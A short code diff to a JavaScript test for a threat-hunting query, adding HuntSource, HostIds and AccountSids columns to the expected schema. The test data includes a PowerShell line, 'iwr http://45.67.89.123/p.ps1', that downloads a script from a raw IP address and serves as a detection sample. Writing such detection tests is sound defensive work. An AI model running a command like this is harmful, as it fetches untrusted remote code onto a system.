@@ -111,6 +111,9 @@ describe("the project's hunting query, exactly as written", () => {
       'Hosts:dynamic',
       'Accounts:dynamic',
       'EventCount:long',
+      'HuntSource:string',
+      'HostIds:dynamic',
+      'AccountSids:dynamic',
     ]);
     const byLine = new Map(records(result).map((r) => [r.CommandLine, r]));
     expect(byLine.get('iwr http://45.67.89.123/p.ps1')).toMatchObject({ IP: '45.67.89.123', Host_count: 1, EventCount: 1 });
